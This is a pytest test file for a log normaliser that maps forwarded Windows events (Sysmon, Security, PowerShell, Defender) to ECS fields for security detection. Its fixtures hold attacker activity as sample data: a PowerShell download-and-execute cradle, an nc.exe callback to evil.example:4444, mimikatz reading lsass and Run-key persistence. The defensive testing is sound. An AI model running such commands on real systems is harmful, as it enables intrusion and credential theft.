"""Forwarded Windows events -> ECS: the three shapes (NXLog CE, Winlogbeat, rendered XML) told apart
and giving the same event; Elastic's ECS fields per channel; hostile documents."""

from __future__ import annotations

import orjson
import pytest

from collectors.wire import LineBatch, LogLine
from detectors.normalise import Normaliser, parse_line
from detectors.normalise.winlog import shape_of

SYSMON_1 = {
    "RuleName": "-",
    "UtcTime": "2019-05-12 17:01:50.781",
    "ProcessGuid": "{365ABB72-517E-5CD8-0000-001024D61700}",
    "ProcessId": "2952",
    "Image": "C:\\Windows\\System32\\pcalua.exe",
    "OriginalFileName": "pcalua.exe",
    "CommandLine": '"C:\\Windows\\System32\\pcalua.exe" -a c:\\Windows\\system32\\calc.exe',
    "CurrentDirectory": "C:\\Users\\IEUser\\",
    "User": "IEWIN7\\IEUser",
    "IntegrityLevel": "Medium",
    "Hashes": "SHA1=ABB6,MD5=D652BA88,SHA256=65446AF2,IMPHASH=256CD8CE",
    "ParentProcessId": "3788",
    "ParentImage": "C:\\Windows\\System32\\cmd.exe",
    "ParentCommandLine": '"C:\\Windows\\system32\\cmd.exe" ',
}


def nxlog(channel: str, provider: str, eid: int, data: dict, host: str = "FS01.agency.local") -> str:
    doc = {
        "EventTime": "2019-05-12 17:01:50",
        "Hostname": host,
        "Keywords": -9223372036854775808,
        "EventType": "INFO",
        "SeverityValue": 2,
        "Severity": "INFO",
        "EventID": eid,
        "SourceName": provider,
        "Task": 1,
        "RecordNumber": 16497,
        "ProcessID": 2012,
        "ThreadID": 300,
        "Channel": channel,
        "Domain": "NT AUTHORITY",
        "AccountName": "SYSTEM",
        "UserID": "S-1-5-18",
        "AccountType": "Well Known Group",
        "Message": "Process Create: ...",
        **data,  # NXLog sets EventData after its own fields (Sysmon's EventType wins)
        "EventReceivedTime": "2019-05-12 17:01:51",
        "SourceModuleName": "eventlog",
        "SourceModuleType": "im_msvistalog",
    }
    return orjson.dumps(doc).decode()


def winlogbeat(channel: str, provider: str, eid: int, data: dict, host: str = "FS01.agency.local", **extra) -> str:
    doc = {
        "@timestamp": "2019-05-12T17:01:50.781Z",
        "event": {"code": str(eid), "provider": provider, "kind": "event"},
        "winlog": {
            "channel": channel,
            "event_id": str(eid),
            "provider_name": provider,
            "computer_name": host,
            "record_id": 16497,
            "event_data": data,
            "process": {"pid": 2012, "thread": {"id": 300}},
            "user": {"identifier": "S-1-5-18"},
        },
        "host": {"name": host.lower()},
        "agent": {"type": "winlogbeat"},
        **extra,
    }
    return orjson.dumps(doc).decode()


def xml(channel: str, provider: str, eid: int, data: dict, host: str = "FS01.agency.local") -> str:
    doc = {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": provider}},
                "EventID": eid,
                "Level": 4,
                "TimeCreated": {"#attributes": {"SystemTime": "2019-05-12T17:01:50.781862Z"}},
                "EventRecordID": 16497,
                "Execution": {"#attributes": {"ProcessID": 2012, "ThreadID": 300}},
                "Channel": channel,
                "Computer": host,
                "Security": {"#attributes": {"UserID": "S-1-5-18"}},
            },
            "EventData": data,
        }
    }
    return orjson.dumps(doc).decode()


SHAPES = {"nxlog": nxlog, "winlogbeat": winlogbeat, "xml": xml}
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")


def parse(text: str) -> dict:
    return parse_line(text, timezone="UTC")


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_shapes_are_told_apart_and_give_the_same_event(shape: str) -> None:
    line = SHAPES[shape](*SYSMON, 1, SYSMON_1)
    assert shape_of(orjson.loads(line)) == shape
    ev = parse(line)
    assert ev["event.dataset"] == "windows.sysmon_operational" and ev["event.module"] == "windows"
    assert ev["event.code"] == ev["winlog.event_id"] == "1"
    assert ev["event.provider"] == ev["winlog.provider_name"] == "Microsoft-Windows-Sysmon"
    assert ev["winlog.channel"] == "Microsoft-Windows-Sysmon/Operational"
    assert ev["winlog.computer_name"] == ev["host.hostname"] == "FS01.agency.local"
    assert ev["winlog.record_id"] == 16497 and ev["winlog.process.pid"] == 2012
    assert ev["winlog.user.identifier"] == "S-1-5-18"
    assert ev["@timestamp"].startswith("2019-05-12T17:01:50.")
    for k, v in SYSMON_1.items():
        assert ev[f"winlog.event_data.{k}"] == v
    assert ev["process.executable"] == SYSMON_1["Image"] and ev["process.name"] == "pcalua.exe"
    assert ev["process.pid"] == 2952 and ev["process.parent.pid"] == 3788
    assert ev["process.command_line"] == SYSMON_1["CommandLine"]
    assert ev["process.parent.executable"] == "C:\\Windows\\System32\\cmd.exe"
    assert ev["process.parent.name"] == "cmd.exe"
    assert ev["process.working_directory"] == "C:\\Users\\IEUser\\"
    assert ev["process.pe.original_file_name"] == "pcalua.exe"
    assert ev["process.hash.md5"] == "d652ba88" and ev["process.pe.imphash"] == "256cd8ce"
    assert ev["user.name"] == "IEUser" and ev["user.domain"] == "IEWIN7"
    assert ev["event.category"] == ["process"] and ev["event.type"] == ["start"]
    assert "_socpipe_parse_failure" not in ev.get("tags", [])


def test_nxlog_core_fields_are_not_event_data() -> None:
    ev = parse(nxlog(*SYSMON, 1, SYSMON_1))
    assert "winlog.event_data.Hostname" not in ev and "winlog.event_data.EventTime" not in ev
    assert "winlog.event_data.SourceModuleType" not in ev
    assert ev["message"] == "Process Create: ..."
    assert ev["log.level"] == "information"


def test_security_failed_rdp_logon() -> None:
    data = {
        "SubjectUserSid": "S-1-0-0",
        "TargetUserName": "administrator",
        "TargetDomainName": "AGENCY",
        "Status": "0xc000006d",
        "SubStatus": "0xc000006a",
        "LogonType": "10",
        "WorkstationName": "KALI",
        "IpAddress": "::ffff:203.0.113.7",
        "IpPort": "50123",
        "ProcessName": "-",
    }
    for shape in SHAPES.values():
        ev = parse(shape(*SECURITY, 4625, data))
        assert ev["event.dataset"] == "system.security" and ev["event.module"] == "system"
        assert ev["event.action"] == "logon-failed" and ev["event.outcome"] == "failure"
        assert ev["event.category"] == ["authentication"]
        assert ev["user.name"] == "administrator" and ev["user.domain"] == "AGENCY"
        assert ev["source.ip"] == "203.0.113.7" and ev["source.port"] == 50123
        assert ev["source.domain"] == "KALI"
        assert ev["winlog.logon.type"] == "RemoteInteractive"
        assert ev["winlog.logon.failure.sub_status"] == "0xc000006a"
        assert "process.executable" not in ev  # '-' is Windows for none


def test_security_process_creation_4688_hex_pids() -> None:
    data = {
        "SubjectUserName": "alice",
        "SubjectDomainName": "AGENCY",
        "NewProcessId": "0x1a4",
        "NewProcessName": "C:\\Windows\\System32\\whoami.exe",
        "ProcessId": "0x3e8",
        "CommandLine": "whoami /all",
        "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
    }
    ev = parse(nxlog(*SECURITY, 4688, data))
    assert ev["process.pid"] == 0x1A4 and ev["process.parent.pid"] == 0x3E8
    assert ev["process.name"] == "whoami.exe" and ev["process.command_line"] == "whoami /all"
    assert ev["process.parent.name"] == "cmd.exe" and ev["user.name"] == "alice"


def test_security_member_added_to_local_admins() -> None:
    data = {
        "MemberName": "-",
        "MemberSid": "S-1-5-21-1-2-3-1005",
        "TargetUserName": "Administrators",
        "TargetDomainName": "Builtin",
        "TargetSid": "S-1-5-32-544",
        "SubjectUserName": "alice",
        "SubjectDomainName": "AGENCY",
    }
    ev = parse(winlogbeat(*SECURITY, 4732, data))
    assert ev["event.action"] == "added-member-to-group"
    assert ev["group.name"] == "Administrators" and ev["group.id"] == "S-1-5-32-544"
    assert ev["user.name"] == "alice" and ev["user.target.id"] == "S-1-5-21-1-2-3-1005"


def test_audit_log_cleared_reads_user_data() -> None:
    doc = orjson.loads(xml(*SECURITY[:1], "Microsoft-Windows-Eventlog", 1102, {}))
    del doc["Event"]["EventData"]
    doc["Event"]["UserData"] = {
        "LogFileCleared": {
            "#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"},
            "SubjectUserSid": "S-1-5-21-1-2-3-500",
            "SubjectUserName": "admin",
            "SubjectDomainName": "AGENCY",
        }
    }
    ev = parse(orjson.dumps(doc).decode())
    assert ev["event.action"] == "audit-log-cleared"
    assert ev["winlog.user_data.SubjectUserName"] == "admin" and ev["user.name"] == "admin"


@pytest.mark.parametrize(
    ("eid", "data", "expect"),
    [
        (
            3,
            {
                "Image": "C:\\x\\nc.exe",
                "Protocol": "tcp",
                "Initiated": "true",
                "SourceIp": "10.0.0.5",
                "SourcePort": "50000",
                "DestinationIp": "198.51.100.9",
                "DestinationHostname": "evil.example",
                "DestinationPort": "4444",
            },
            {
                "destination.ip": "198.51.100.9",
                "destination.port": 4444,
                "destination.domain": "evil.example",
                "source.ip": "10.0.0.5",
                "network.transport": "tcp",
                "network.direction": "egress",
                "process.name": "nc.exe",
            },
        ),
        (
            11,
            {"Image": "C:\\x\\a.exe", "TargetFilename": "C:\\Users\\u\\AppData\\Roaming\\Start Menu\\run.BAT"},
            {"file.path": "C:\\Users\\u\\AppData\\Roaming\\Start Menu\\run.BAT", "file.name": "run.BAT"},
        ),
        (
            13,
            {
                "EventType": "SetValue",
                "Image": "C:\\x\\reg.exe",
                "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil",
                "Details": "C:\\evil.exe",
            },
            {
                "registry.hive": "HKLM",
                "registry.key": "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                "registry.value": "evil",
                "registry.data.strings": ["C:\\evil.exe"],
            },
        ),
        (7, {"Image": "C:\\x\\a.exe", "ImageLoaded": "C:\\Temp\\evil.dll"}, {"dll.path": "C:\\Temp\\evil.dll"}),
        (
            10,
            {"SourceImage": "C:\\x\\mimikatz.exe", "TargetImage": "C:\\Windows\\system32\\lsass.exe"},
            {"process.name": "mimikatz.exe", "winlog.event_data.TargetImage": "C:\\Windows\\system32\\lsass.exe"},
        ),
        (
            22,
            {"Image": "C:\\x\\a.exe", "QueryName": "evil.example", "QueryResults": "::ffff:198.51.100.9;"},
            {
                "dns.question.name": "evil.example",
                "dns.resolved_ip": ["::ffff:198.51.100.9"],
            },
        ),
    ],
)
def test_sysmon_ecs_fields(eid: int, data: dict, expect: dict) -> None:
    ev = parse(winlogbeat(*SYSMON, eid, data))
    for k, v in expect.items():
        assert ev[k] == v, k


def test_powershell_script_block_and_module_logging() -> None:
    ps = ("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell")
    ev = parse(
        nxlog(
            *ps,
            4104,
            {
                "MessageNumber": "1",
                "MessageTotal": "1",
                "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x')",
                "ScriptBlockId": "abc",
                "Path": "",
            },
        )
    )
    assert ev["event.dataset"] == "windows.powershell_operational"
    assert ev["powershell.file.script_block_text"].startswith("IEX") and ev["powershell.total"] == 1
    ctx = "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Application = powershell.exe -nop -w hidden\r\n        Command Name = Invoke-WebRequest\r\n        User = AGENCY\\bob\r\n"
    ev = parse(winlogbeat(*ps, 4103, {"ContextInfo": ctx, "Payload": "CommandInvocation(Invoke-WebRequest)"}))
    assert ev["process.command_line"] == "powershell.exe -nop -w hidden" and ev["process.name"] == "powershell.exe"
    assert ev["powershell.command.name"] == "Invoke-WebRequest" and ev["user.name"] == "bob"


def test_powershell_classic_engine_start() -> None:
    blob = "\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\tHostName=ConsoleHost\r\n\tHostVersion=2.0\r\n\tHostApplication=powershell -version 2 -enc ZQBjAGgAbwA=\r\n\tEngineVersion=2.0\r\n"
    doc = orjson.loads(xml("Windows PowerShell", "PowerShell", 400, {}))
    doc["Event"]["EventData"] = {"Data": {"#text": ["Available", "None", blob]}}
    ev = parse(orjson.dumps(doc).decode())
    assert ev["event.dataset"] == "windows.powershell"
    assert ev["winlog.event_data.param3"] == blob
    assert ev["powershell.engine.version"] == "2.0" and ev["powershell.process.executable_version"] == "2.0"
    assert ev["process.command_line"] == "powershell -version 2 -enc ZQBjAGgAbwA="


def test_system_service_install_and_defender() -> None:
    ev = parse(
        nxlog(
            "System",
            "Service Control Manager",
            7045,
            {
                "ServiceName": "PSEXESVC",
                "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
        )
    )
    assert ev["event.dataset"] == "system.system" and ev["service.name"] == "PSEXESVC"
    assert ev["event.action"] == "service-installed"
    defender = ("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender")
    ev = parse(
        winlogbeat(
            *defender,
            1116,
            {
                "Threat Name": "HackTool:Win32/Mimikatz",
                "Path": "file:_C:\\Temp\\m.exe",
                "Detection User": "AGENCY\\bob",
                "Process Name": "C:\\Windows\\explorer.exe",
            },
        )
    )
    assert ev["event.dataset"] == "windows.windows_defender" and ev["event.action"] == "malware-detected"
    assert ev["file.path"] == "C:\\Temp\\m.exe" and ev["user.name"] == "bob"
    ev = parse(xml(*defender, 5001, {"Product Name": "Microsoft Defender Antivirus"}))
    assert ev["event.action"] == "realtime-protection-disabled"


def test_unknown_channel_is_forwarded_dataset() -> None:
    ev = parse(
        nxlog(
            "Microsoft-Windows-TaskScheduler/Operational",
            "Microsoft-Windows-TaskScheduler",
            106,
            {"TaskName": "\\evil"},
        )
    )
    assert ev["event.dataset"] == "windows.forwarded" and ev["winlog.event_data.TaskName"] == "\\evil"


def test_ordinary_json_is_not_windows() -> None:
    ev = parse('{"EventID": 5, "level": "info", "msg": "app"}')
    assert ev["event.dataset"] != "windows.forwarded" and "winlog.channel" not in ev
    assert shape_of({"winlog": "x"}) is None


@pytest.mark.parametrize(
    "doc",
    [
        {"winlog": {"channel": ["x"], "event_id": {"a": 1}, "event_data": "nope"}},
        {"winlog": {"channel": "Security", "event_id": "4625", "event_data": {"IpAddress": 5, "LogonType": None}}},
        {"Event": {"System": {"EventID": {"#text": "x"}, "Channel": 3}, "EventData": [1, 2]}},
        {"EventID": "NaN", "SourceName": None, "Hostname": 7, "Channel": "Security", "TargetUserName": {"x": [1]}},
        {
            "winlog": {"channel": "Security", "event_id": "4732"},
            "organization": {"id": "victim"},
            "socpipe": {"seq": 1},
        },
    ],
)
def test_hostile_documents_never_raise_nor_claim_an_agency(doc: dict) -> None:
    batch = LineBatch(
        agency_id="so-a",
        agent_id="ag-1",
        host="collector1",
        source="windows-tcp:6514",
        dataset=None,
        timezone="UTC",
        lines=[LogLine(text=orjson.dumps(doc).decode(), offset=0, seq=1, read_at=1.7e9)],
    )
    (ev,) = Normaliser().normalise_batch(batch)
    assert ev["organization.id"] == "so-a" and ev["agent.id"] == "ag-1" and ev["agent.type"] == "socpipe"
    assert "socpipe.seq" not in ev or ev["socpipe.seq"] == 1


def test_batch_host_is_the_windows_computer() -> None:
    batch = LineBatch(
        agency_id="so-a",
        agent_id="ag-1",
        host="collector1",
        source="windows-tcp:6514",
        dataset=None,
        timezone="UTC",
        lines=[LogLine(text=nxlog(*SYSMON, 1, SYSMON_1), offset=0, seq=1, read_at=1.7e9)],
    )
    (ev,) = Normaliser().normalise_batch(batch)
    assert ev["host.name"] == "FS01.agency.local"


def test_a_message_is_made_when_the_forwarder_sends_none() -> None:
    ev = parse(winlogbeat(*SYSMON, 1, SYSMON_1))
    assert ev["message"].startswith("Microsoft-Windows-Sysmon event 1: ")
    assert 'CommandLine="C:\\Windows\\System32\\pcalua.exe" -a c:\\Windows\\system32\\calc.exe' in ev["message"]
    assert "RuleName=" not in ev["message"]  # '-' is Windows for none
    huge = parse(xml(*SYSMON, 1, dict(SYSMON_1, CommandLine="A" * 100_000)))
    assert len(huge["message"]) <= 8192


def test_field_reference_lists_the_windows_datasets() -> None:
    from detectors.normalise.reference import reference

    ref = reference()
    assert {
        "system.security",
        "system.system",
        "windows.sysmon_operational",
        "windows.powershell_operational",
        "windows.windows_defender",
    } <= set(ref)
    assert {"winlog.channel", "event.code", "winlog.event_data.LogonType", "source.ip"} <= set(ref["system.security"])
